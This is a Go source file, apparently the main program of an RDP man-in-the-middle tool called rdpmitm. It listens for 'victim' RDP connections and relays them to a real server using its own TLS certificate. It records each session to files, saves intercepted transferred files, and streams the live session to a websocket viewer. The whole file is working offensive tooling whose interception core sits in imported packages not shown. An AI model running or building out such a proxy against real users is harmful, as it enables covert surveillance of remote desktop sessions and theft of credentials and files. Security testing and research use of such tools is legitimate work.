// Command rdpmitm runs the RDP man-in-the-middle proxy: it accepts victim
// connections on a listening socket, relays each one to a real RDP server,
// and records/intercepts traffic along the way per config.Config.
package main

import (
	"crypto/tls"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"sync/atomic"
	"syscall"

	"github.com/GoFeGroup/rdpmitm/config"
	"github.com/GoFeGroup/rdpmitm/core"
	"github.com/GoFeGroup/rdpmitm/glog"
	"github.com/GoFeGroup/rdpmitm/mitm"
	"github.com/GoFeGroup/rdpmitm/recorder"
)

func main() {
	var (
		configPath = flag.String("config", "", "path to a JSON or YAML configuration file")
		listen     = flag.String("listen", "", "override listen address:port")
		target     = flag.String("target", "", "override target RDP server address:port")
	)
	flag.Parse()

	cfg := config.DefaultConfig()
	if *configPath != "" {
		loaded, err := config.LoadFromFile(*configPath)
		if err != nil {
			log.Fatalf("rdpmitm: %v", err)
		}
		cfg = loaded
	} else {
		config.ApplyEnvOverrides(cfg)
	}
	if *listen != "" {
		applyAddrFlag(*listen, &cfg.Listen.Address, &cfg.Listen.Port)
	}
	if *target != "" {
		applyAddrFlag(*target, &cfg.Target.Address, &cfg.Target.Port)
	}

	if err := cfg.Validate(); err != nil {
		log.Fatalf("rdpmitm: %v", err)
	}
	if cfg.TLS.CertificatePath == "" {
		log.Fatalf("rdpmitm: tls.certificate_path is required")
	}
	glog.SetLevel(parseLogLevel(cfg.Logging.Level))

	cert, err := tls.LoadX509KeyPair(cfg.TLS.CertificatePath, cfg.TLS.KeyPath)
	if err != nil {
		log.Fatalf("rdpmitm: loading tls certificate: %v", err)
	}

	// liveSession is the most recently accepted connection's recorder, wired
	// to the optional player socket so a live viewer can attach mid-session.
	var liveSession atomic.Pointer[recorder.Recorder]
	if cfg.Player.Enabled {
		startPlayerSocket(cfg.Player.Addr(), &liveSession)
	}

	ln, err := net.Listen("tcp", cfg.Listen.Addr())
	if err != nil {
		log.Fatalf("rdpmitm: listen on %s: %v", cfg.Listen.Addr(), err)
	}
	fmt.Printf("rdpmitm: listening on %s, relaying to %s\n", cfg.Listen.Addr(), cfg.Target.Addr())

	sigChan := make(chan os.Signal, 1)
	signal.Notify(sigChan, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		<-sigChan
		fmt.Println("\nrdpmitm: shutting down")
		ln.Close()
		os.Exit(0)
	}()

	var sessionCounter uint64
	for {
		conn, err := ln.Accept()
		if err != nil {
			glog.Errorf("rdpmitm: accept: %v", err)
			return
		}
		sessionCounter++
		sessionID := fmt.Sprintf("session-%04d", sessionCounter)
		go acceptSession(conn, cfg, cert, sessionID, &liveSession)
	}
}

func parseLogLevel(level string) glog.LEVEL {
	switch level {
	case "debug":
		return glog.DEBUG
	case "warn":
		return glog.WARN
	case "error":
		return glog.ERROR
	default:
		return glog.INFO
	}
}

// applyAddrFlag splits a "host:port" flag value into its config fields.
// A value without a port is stored whole as the address; a port that does
// not parse as a number leaves *port unchanged.
func applyAddrFlag(hostPort string, addr *string, port *int) {
	host, portStr, err := net.SplitHostPort(hostPort)
	if err != nil {
		*addr = hostPort
		return
	}
	*addr = host
	fmt.Sscanf(portStr, "%d", port)
}

// startPlayerSocket serves the live-viewer websocket endpoint, attaching a
// new SocketSink to whichever session is currently live. Only one session
// can be watched at a time; the MITM is a point tool, not a fleet console.
func startPlayerSocket(addr string, liveSession *atomic.Pointer[recorder.Recorder]) {
	mux := http.NewServeMux()
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		rec := liveSession.Load()
		if rec == nil {
			http.Error(w, "no active session", http.StatusServiceUnavailable)
			return
		}
		sink, err := recorder.NewSocketSink(w, r)
		if err != nil {
			glog.Warnf("rdpmitm: player upgrade failed: %v", err)
			return
		}
		rec.AddSink(sink)
	})
	go func() {
		if err := http.ListenAndServe(addr, mux); err != nil {
			glog.Errorf("rdpmitm: player socket on %s: %v", addr, err)
		}
	}()
	fmt.Printf("rdpmitm: live player listening on %s/ws\n", addr)
}

// acceptSession wires up one victim connection's recorder and saved-files
// directory and runs it to completion.
func acceptSession(conn net.Conn, cfg *config.Config, cert tls.Certificate, sessionID string, liveSession *atomic.Pointer[recorder.Recorder]) {
	recordingPath := cfg.Recording.FilePath
	if cfg.SavedFiles.PrefixWithSessionID {
		recordingPath = sessionID + "-" + filepath.Base(recordingPath)
	}
	fileSink, err := recorder.NewFileSink(recordingPath)
	if err != nil {
		glog.Errorf("rdpmitm: %s: opening recording file: %v", sessionID, err)
		conn.Close()
		return
	}

	rec := recorder.New(core.NowMillis)
	rec.AddSink(fileSink)
	if cfg.Player.Enabled {
		liveSession.Store(rec)
	}
	defer rec.Close()

	savedFilesDir := cfg.SavedFiles.Directory
	if cfg.SavedFiles.PrefixWithSessionID {
		savedFilesDir = filepath.Join(savedFilesDir, sessionID)
	}
	if err := os.MkdirAll(savedFilesDir, 0o755); err != nil {
		glog.Errorf("rdpmitm: %s: creating saved files dir: %v", sessionID, err)
	}

	glog.Infof("rdpmitm: %s: accepted connection from %s", sessionID, conn.RemoteAddr())
	sess := mitm.NewSession(conn, cfg, cert, rec, sessionID, savedFilesDir)
	if err := sess.Run(); err != nil {
		glog.Warnf("rdpmitm: %s: session ended: %v", sessionID, err)
	} else {
		glog.Infof("rdpmitm: %s: session ended", sessionID)
	}
}
